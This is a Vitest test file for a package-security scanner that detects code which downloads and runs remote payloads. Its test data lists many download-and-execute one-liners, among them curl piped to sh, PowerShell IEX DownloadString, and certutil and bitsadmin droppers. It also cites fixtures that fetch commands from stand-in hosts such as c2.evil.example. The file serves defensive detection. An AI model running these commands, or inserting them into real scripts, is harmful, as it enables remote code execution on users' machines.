import fs from "node:fs";
import { describe, expect, it } from "vitest";
import { analyzeSource } from "@/scanner/analysis/analyze-source";
import { downloadRunIn } from "@/scanner/analysis/download-run-commands";
import { CODE_RULES } from "@/scanner/rules/index";

const findingsOf = (rule: string, file: string) => analyzeSource(file, fs.readFileSync(file, "utf8"), CODE_RULES.filter((each) => each.id === rule)).findings;

describe("downloadRunIn", () => {
  it("names how a command line runs what it downloads", () => {
    expect(downloadRunIn("curl -fsSL https://x.example/i.sh | sh")).toBe("a download piped into a shell");
    expect(downloadRunIn("wget -qO- https://x.example/i | sudo -E bash")).toBe("a download piped into a shell");
    expect(downloadRunIn("iwr https://x.example/a.ps1 -UseBasicParsing | iex")).toBe("a download piped into a shell");
    expect(downloadRunIn('bash -c "$(curl -fsSL https://x.example/i.sh)"')).toBe("a download substituted into a shell");
    expect(downloadRunIn("source <(curl -s https://x.example/env)")).toBe("a download substituted into a shell");
    expect(downloadRunIn('eval "$(wget -qO- https://x.example/e)"')).toBe("a download substituted into a shell");
    expect(downloadRunIn("$(wget -qO- https://x.example/cmd)")).toBe("a download substituted into a shell");
    expect(downloadRunIn("sh -c `curl -s https://x.example/cmd`")).toBe("a download substituted into a shell");
    expect(downloadRunIn("powershell -c \"IEX (New-Object System.Net.WebClient).DownloadString('https://x.example/a')\"")).toBe("PowerShell running a downloaded string");
    expect(downloadRunIn("curl -fsSL https://x.example/s2 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("curl -sSLo ./agent https://x.example/a; chmod 755 agent")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("wget -q -O install.sh https://x.example/i && sh install.sh --yes")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("curl -o /tmp/p.py https://x.example/p; python3 /tmp/p.py")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("curl https://x.example/i.sh > /tmp/x.sh && sh /tmp/x.sh")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("wget -q https://x.example/kworker && chmod +x kworker && ./kworker")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("curl -sSLO https://x.example/dist/setup.sh && bash setup.sh")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("curl -s https://x.example/i | sudo -E bash -s -- --quiet 2>&1")).toBe("a download piped into a shell");
    expect(downloadRunIn("iex (iwr -UseBasicParsing https://x.example/a)")).toBe("PowerShell running a downloaded string");
    // Windows' downloaders and PowerShell's -OutFile, then the file run by cmd's start, Start-Process or by name.
    expect(downloadRunIn("certutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("bitsadmin /transfer job /download /priority high https://x.example/u.exe C:\\Users\\Public\\u.exe & C:\\Users\\Public\\u.exe")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("iwr https://x.example/s.exe -OutFile s.exe; Start-Process .\\s.exe")).toBe("a download saved, then run or made executable");
    expect(downloadRunIn('powershell -c "Invoke-WebRequest -Uri https://x.example/p.ps1 -OutFile $env:TEMP\\p.ps1; powershell -File $env:TEMP\\p.ps1"')).toBe("a download saved, then run or made executable");
    expect(downloadRunIn("(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex")).toBe("PowerShell running a downloaded string");
  });

  it("leaves downloads kept as files or data alone", () => {
    for (const line of [
      "curl -fsSL https://x.example/a.tgz -o a.tgz",
      "curl -s https://x.example/s | jq .",
      "wget https://x.example/f && sh ./local.sh",
      "sh ./setup.sh | tee log",
      "curl https://x.example | shasum -a 256",
      "curl -o data.json https://x.example/d && jq . data.json && chmod 644 data.json",
      "curl -o a.tgz https://x.example/a.tgz && tar xzf a.tgz && ./a/run",
      // Interpreters given code of their own, `||`, and fetch that is no download.
      `curl -s https://api.github.com/repos/o/r/releases/latest | python3 -c "import sys, json; print(json.load(sys.stdin)['tag_name'])"`,
      `curl -s https://registry.npmjs.org/pkg | node -e "process.stdin.pipe(process.stdout)"`,
      "command -v curl >/dev/null 2>&1 || node ./scripts/download.js",
      "curl -fsS http://localhost:3000/health || sh ./scripts/restart.sh",
      "node scripts/fetch.js | node scripts/summarize.js",
      "git fetch --dry-run 2>&1 | node ./bin/parse-refs.js",
      "wget -q https://x.example/data.csv && wc -l data.csv",
      "curl -sSLO https://x.example/app.tar.gz && tar xzf app.tar.gz",
      "certutil -urlcache -split -f https://x.example/data.csv data.csv && type data.csv",
      "certutil -hashfile setup.exe SHA256 && start setup.exe",
      "iwr https://x.example/r.zip -OutFile r.zip; Expand-Archive r.zip",
    ]) {
      expect(downloadRunIn(line), line).toBeUndefined();
    }
  });

  it("searches a line of thousands of downloads in linear time", () => {
    expect(downloadRunIn("curl x ".repeat(10_000))).toBeUndefined();
    expect(downloadRunIn("curl -o f x; ".repeat(5_000))).toBeUndefined();
    expect(downloadRunIn("certutil -urlcache bitsadmin /transfer ".repeat(1_500))).toBeUndefined();
  });
});

describe("code a package downloads and runs", () => {
  it("is high when run by a command line, naming how, and the rest of the spawn is still told", () => {
    const findings = findingsOf("exec", "test/fixtures/rules/exec/download-run.js");
    const at = (line: number) => findings.filter((finding) => finding.line === line);
    for (const line of [6, 8, 10, 12, 14, 16]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["high"]);
    expect(at(6)[0]!.message).toBe("Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will");
    for (const line of [20, 22, 24]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["info"]);
    expect(at(30).map((finding) => finding.message)).toEqual(["Runs the commands it downloads (fetch from c2.evil.example: child_process.execSync): commands no reviewer has seen, which their server can change at will"]);
    expect(at(32).map((finding) => finding.severity)).toEqual(["high"]);
    // Worked out in a download's handler; a constant command there is the file's own.
    expect(at(41).map((finding) => finding.message)).toEqual(["Runs the commands it downloads (https.get from c2.evil.example: child_process.exec): commands no reviewer has seen, which their server can change at will"]);
    expect(at(46).map((finding) => finding.severity)).toEqual(["high"]);
    expect(at(50).map((finding) => finding.severity)).toEqual(["info"]);
  });

  it("is high when a spawn runs a file the package saved a download in, as the program or an interpreter's script", () => {
    const findings = findingsOf("exec", "test/fixtures/rules/exec/saved-download-run.js");
    const at = (line: number) => findings.filter((finding) => finding.line === line);
    expect(at(16).map((finding) => finding.message)).toEqual(["Runs what it downloads (fetch from cdn.evil.example, saved as ${…}/.cache-agent on line 13: child_process.spawn): code no reviewer has seen, which its server can change at will"]);
    expect(at(24).map((finding) => finding.message)).toEqual(["Runs what it downloads (https.get from cdn.evil.example, saved as /tmp/.update.js on line 21: child_process.execFileSync): code no reviewer has seen, which its server can change at will"]);
    expect(at(32).map((finding) => finding.message)).toEqual(["Runs what it downloads (fetch from cdn.evil.example, saved as /tmp/.p.sh on line 30: child_process.exec): code no reviewer has seen, which its server can change at will"]);
    // Saved by compiled TypeScript's `(0, fs_1.writeFileSync)(…)`, under a destructured name of its own, and by Bun.write (of bytes or of the response).
    for (const line of [74, 77, 85, 122]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["high"]);
    // Given to a wrapper of the package's own: told where the wrapper is called with the saved file.
    expect(at(99).map((finding) => finding.message)).toEqual(["Runs what it downloads (fetch from cdn.evil.example, saved as ${…}/.wrapped-agent on line 97: child_process.spawn in launch(), line 93): code no reviewer has seen, which its server can change at will"]);
    expect(at(101).map((finding) => finding.severity)).toEqual(["info"]);
    // Moved after it was saved, and named where it was moved to; a file of the package's own copied is not one.
    expect(at(111).map((finding) => finding.message)).toEqual(["Runs what it downloads (fetch from cdn.evil.example, saved as /usr/local/bin/.updater on line 109: child_process.execFileSync): code no reviewer has seen, which its server can change at will"]);
    expect(at(114).map((finding) => finding.severity)).toEqual(["info"]);
    // A download kept as data, programs of the package's own, and paths nothing ties together.
    for (const line of [42, 44, 46, 53, 62]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["info"]);
  });

  it("is reported besides a detached spawn's finding, each once", () => {
    const findings = findingsOf("exec", "test/fixtures/rules/exec/dropper.js").filter((finding) => finding.line === 6);
    expect(findings.map((finding) => finding.message.split(" (")[0])).toEqual(["Runs what it downloads", "Starts a detached process with its output discarded"]);
  });

  it("is high when eval, Function or vm runs a response's body, or runs inside a download's handler", () => {
    const findings = findingsOf("dynamic-code", "test/fixtures/rules/dynamic-code/downloaded.js");
    const at = (line: number) => findings.find((finding) => finding.line === line);
    for (const line of [8, 12, 14, 20, 23, 27, 35]) expect(at(line)?.severity, `line ${line}`).toBe("high");
    expect(at(8)!.message).toBe("Evaluates a string as code (eval), downloaded at run time (fetch from evil.example): code no reviewer has seen, which its server can change at will");
    expect(at(14)!.message).toContain("(axios.get from evil.example)");
    expect(at(20)!.message).toContain("(https.get from evil.example)");
    expect(at(23)!.message).toBe("Hands eval what it downloads (fetch from evil.example): code no reviewer has seen, which its server can change at will");
    // Code worked out at run time that no download gives stays medium: a parameter named as another
    // function's downloaded variable, a tool's handler registered inside a fetch's step.
    for (const line of [44, 55, 66]) expect(at(line)?.severity, `line ${line}`).toBe("medium");
    expect(at(73)?.message).toContain("(axios.get from evil.example)");
    expect(at(76)?.severity).toBe("high");
    // A download decoded before it runs is still the download.
    expect(at(82)?.message).toContain("downloaded at run time (fetch from evil.example)");
    expect(at(85)?.message).toContain("downloaded at run time (axios.get from evil.example)");
    // A download saved as a file, then required or imported; a module of the package's own is not one.
    expect(at(94)?.message).toBe("Requires what it downloads (fetch from evil.example, saved as ${…}/.cache.js on line 92): code no reviewer has seen, which its server can change at will");
    expect(at(97)?.message).toBe("Imports what it downloads (fetch from evil.example, saved as /tmp/.z.mjs on line 95): code no reviewer has seen, which its server can change at will");
    expect(at(100)?.severity).toBe("low");
    // Run in a worker thread; a worker script of the package's own is nothing.
    expect(at(108)?.message).toBe("Runs what it downloads in a worker thread (fetch from evil.example, saved as /tmp/.w.js on line 106): code no reviewer has seen, which its server can change at will");
    expect(at(110)).toBeUndefined();
  });
});
